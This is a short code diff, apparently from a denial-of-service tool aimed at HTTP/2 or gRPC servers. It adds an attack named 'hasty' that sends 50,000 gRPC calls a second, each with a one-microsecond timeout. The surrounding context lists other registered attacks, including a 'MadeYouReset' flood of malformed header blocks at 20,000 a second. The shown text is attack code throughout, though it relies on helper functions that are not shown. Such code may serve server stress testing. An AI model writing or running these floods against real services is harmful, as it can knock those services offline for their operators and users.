@@ -109,6 +109,12 @@ async def dear_reset(aim: Aim) -> None:
     await flood(aim, 5_000, make)
 
 
+@attack("calls with a timeout of a microsecond, 50,000 a second")
+async def hasty(aim: Aim) -> None:
+    block = head(f"/{SERVICE}/{METHOD}", (b"grpc-timeout", b"1u"))
+    await flood(aim, 50_000, lambda wire: call(wire.next_stream(), body(1, 1), block))
+
+
 @attack("MadeYouReset, 20,000 a second")
 async def made_you_reset(aim: Aim) -> None:
     malformed = NO_TABLE + literal(b"connection", b"close") + BLOCK[1:]
